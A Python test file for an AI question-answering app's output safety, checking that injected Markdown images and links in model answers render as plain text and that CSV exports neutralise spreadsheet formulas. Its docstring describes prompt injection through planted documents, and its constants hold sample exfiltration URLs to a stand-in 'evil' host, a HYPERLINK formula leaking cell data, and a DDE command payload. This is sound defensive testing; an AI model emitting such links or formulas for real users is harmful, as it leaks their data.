"""Output safety (issue 14 #10): an instruction planted in a document can make the model write an
image whose URL carries data out (the browser fetches it as the answer renders) or a link to
anywhere; CSV exports must not hand a spreadsheet a formula. Answers render no image and no link
but the sources' own; every CSV export quotes formula-like text cells with '."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
from actors import ADMIN
from apptest_kit import ask, chat_page, console_config, data_dir, extractive  # noqa: F401 - fixtures

from backend.access.audit import AuditLog, audit_csv
from backend.db import make_engine, migrate
from backend.evaluation.golden import GoldItem, GoldRef, export_csv
from backend.evaluation.runs import GoldMove, ItemDiff, RunDiff, export_diff_csv
from backend.exports import csv_dicts, frame_csv, safe_cell
from console.markup import answer_md, with_citation_badges

EVIL_ANSWER = "The answer [1]. ![x](http://evil/?q=secret) Also [click](http://evil) and <http://evil/a>."
FORMULA = '=HYPERLINK("http://evil/?d="&A1,"click")'


def _reads(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_link_to_evil(markdown: str) -> None:
    assert "](http://evil" not in markdown and "<http://evil" not in markdown and "http://evil" not in markdown


def test_answers_show_no_image_and_only_the_sources_links_as_links() -> None:
    src = "https://docs.example.org/page"
    md = answer_md(EVIL_ANSWER + f" See [the page]({src}) or {src}.", "llm", {src})
    _no_link_to_evil(md)
    assert r"\!\[x\]\(http\://evil/?q=secret\)" in md  # shown as text: the reader sees what was attempted
    assert f"[the page]({src})" in md and f" {src}." in md  # the source's own address stays a link
    assert ":blue-badge[1]" in with_citation_badges(md, 1)  # citation markers still become badges
    # Reference-style images, autolinks, bare addresses and e-mails: all plain text.
    for sneaky in ("![x][r]\n\n[r]: http://evil/?q=s", "www.evil.com/?q=s", "mail me@evil.com", f"![y]({src})"):
        active = re.sub(r"\\.", "", answer_md(sneaky, "llm", {src}))  # what Markdown reads as syntax
        assert not any(t in active for t in ("[", "]", "www.evil", "@evil.com")), active
    # Code keeps its characters (Markdown renders no link inside code), unless Markdown would not read it as code.
    assert answer_md("use `a[0]` here\n```\nb = c[1]\n```\n", "llm") == "use `a[0]` here\n```\nb = c[1]\n```\n"
    assert "](http" not in answer_md("\\`![y](http://evil)`", "llm")


def test_every_csv_export_writes_formulas_as_text(tmp_path: Path) -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "ok", -0.5, 3, None)] == [
        "'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "ok", -0.5, 3, ""]
    golden = export_csv([GoldItem(question=FORMULA, references=[GoldRef(doc_id="d1")], reference_answer="-1 is it",
                                  tags=["@t"])])
    assert _reads(golden)[1] == ["'" + FORMULA, "d1", "'-1 is it", "'@t"]

    db = make_engine(f"sqlite:///{tmp_path / 'audit.db'}")
    migrate(db)
    audit = AuditLog(db)
    audit.record(ADMIN, "golden.import", FORMULA, note="+cmd|' /C calc'!A0")
    [header, row] = _reads(audit_csv(audit.recent(1)))
    assert row[header.index("target")] == "'" + FORMULA and row[header.index("actor")] == ADMIN.id

    item = ItemDiff(key="k", question=FORMULA, change="regressed", delta=-0.25, a=0.5, b=0.25,
                    moves=(GoldMove(doc_id=FORMULA, before=1, after=None),))
    [header, row] = _reads(export_diff_csv(RunDiff(run_a=1, run_b=2, primary="ndcg@10", n_items=1, metrics={},
                                                   improved=0, regressed=1, unchanged=0, items=(item,))))
    cells = dict(zip(header, row))
    assert (cells["question"], cells["delta"]) == ("'" + FORMULA, "-0.25")  # a negative number stays a number
    assert cells["gold moves"].startswith("'" + FORMULA)
    assert _reads(csv_dicts([{"model": "=cmd"}], ["model"]))[1] == ["'=cmd"]
    frame = frame_csv(pd.DataFrame({"user": [FORMULA, "bob"], "cost": [-1.5, 2.0]}))
    assert _reads(frame)[1:] == [["'" + FORMULA, "-1.5"], ["bob", "2.0"]]


def test_console_renders_an_injected_image_and_link_as_text(extractive: Path, fault_llm) -> None:  # noqa: ANN001, F811
    fault_llm.reply = EVIL_ANSWER
    with console_config(extractive, OPENAI_BASE_URL=fault_llm.base_url, LLM_MODEL=fault_llm.model, LLM_MAX_RETRIES="0"):
        at = chat_page()
        turn = ask(at, "5% of perinatal mortality is due to low birth weight.")
        assert turn.error is None and turn.answer.answer == EVIL_ANSWER
        rendered = "\n".join(e.value for e in at.markdown)
        assert "evil" in rendered  # the answer is there, as text
        _no_link_to_evil(rendered)
